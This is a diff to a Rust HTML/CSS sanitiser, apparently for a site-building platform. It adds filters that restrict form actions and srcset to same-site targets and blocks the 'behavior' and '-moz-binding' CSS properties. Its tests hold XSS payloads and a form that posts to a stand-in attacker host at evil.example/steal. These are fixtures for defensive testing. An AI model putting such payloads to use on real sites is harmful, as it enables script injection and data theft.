@@ -444,10 +444,24 @@ static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
         )
         .url_schemes(["http", "https", "mailto", "tel"].into_iter().collect())
         .url_relative(ammonia::UrlRelative::PassThrough)
+        .attribute_filter(|element, attribute, value| match (element, attribute) {
+            // A form posts to the platform only (forms built as components
+            // get that action; one written as raw HTML keeps none).
+            ("form", "action") => value.starts_with("/_stackpro/forms/").then(|| value.into()),
+            // Every candidate of a srcset is an image of the site itself.
+            ("img" | "source", "srcset") => {
+                value.split(',').all(|c| same_site(c.split_whitespace().next().unwrap_or(""))).then(|| value.into())
+            }
+            _ => Some(value.into()),
+        })
         .link_rel(Some("noopener noreferrer"))
         .strip_comments(true);
     b
 });
+
+fn same_site(url: &str) -> bool {
+    url.starts_with('/') && !url.starts_with("//")
+}
 
 /// Cleans a body fragment with the allowlist.
 pub fn sanitise(html: &str) -> String {
@@ -541,6 +555,10 @@ fn rule_css(rule: &Value) -> Option<String> {
 }
 
 fn is_property(p: &str) -> bool {
+    // Old browsers ran code through these two.
+    if p.eq_ignore_ascii_case("behavior") || p.eq_ignore_ascii_case("-moz-binding") {
+        return false;
+    }
     let p = p.strip_prefix('-').unwrap_or(p);
     !p.is_empty()
         && p.len() <= 64
@@ -623,6 +641,7 @@ mod tests {
             { "type": "text", "content": "<img src=x onerror=alert(5)><a href=\"JaVaScRiPt:alert(6)\">y</a><script>alert(7)</script>" },
             { "tagName": "iframe", "attributes": { "src": "https://evil.example" } },
             { "tagName": "div", "attributes": { "style": "background:url(https://evil.example/x)", "onclick": "alert(8)" } },
+            { "type": "text", "content": "<form action=\"https://evil.example/steal\"><input name=a></form><img srcset=\"https://evil.example/y.png 2x\" src=\"/a.png\">" },
         ]});
         let r = page(&head(), &project(c, json!([])), "/");
         let lower = r.html.to_ascii_lowercase();
@@ -644,6 +663,7 @@ mod tests {
             { "selectors": ["b</style><script>"], "style": { "color": "red" } },
             { "selectors": ["c"], "style": { "color": "blue" }, "mediaText": "(max-width: 480px)", "atRuleType": "media" },
             { "selectors": ["d"], "style": { "color": "blue" }, "atRuleType": "import" },
+            { "selectors": ["e"], "style": { "behavior": "url(/x.htc)", "-moz-binding": "url(/x.xml)" } },
         ]);
         let css = styles_css(styles.as_array().unwrap());
         assert_eq!(
